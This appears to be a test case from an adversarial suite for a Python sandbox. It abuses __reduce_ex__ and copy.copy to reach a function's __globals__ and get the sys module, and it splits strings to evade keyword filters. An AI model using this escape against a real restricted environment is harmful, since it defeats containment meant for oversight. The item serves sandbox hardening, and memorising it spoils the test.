# adversary round 3: 033_reduce_ex_via_type_copy
import copy, dataclasses
def red(self, proto):
    return (getattr, (dataclasses.fields, "__glo" + "bals__"))
C = type("C", (), {"__reduce" + "_ex__": red})
g = copy.copy(C())
print(type(g).__name__, repr(g.get("s" + "ys")))
if type(g.get("s" + "ys")).__name__ == "module":
    print("PWN" + "ED")
